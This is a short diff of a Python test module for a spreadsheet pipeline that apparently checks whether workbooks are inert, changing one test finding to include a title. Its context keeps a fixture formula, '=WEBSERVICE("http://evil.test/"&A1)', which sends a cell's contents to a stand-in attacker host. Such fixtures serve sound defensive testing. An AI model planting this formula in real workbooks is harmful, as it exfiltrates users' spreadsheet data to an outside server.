@@ -27,7 +27,7 @@ from pipeline.workbooks.annotate import annotate
 from pipeline.workbooks.inert import is_inert, is_light
 
 CALL = '=WEBSERVICE("http://evil.test/"&A1)'
-FOUND = (finding("name-empty", at=CellRef("事業一覧", 2, 2)),)
+FOUND = (finding("name-empty", title="事業名", at=CellRef("事業一覧", 2, 2)),)
 
 
 def active_master(path: Path) -> Path:
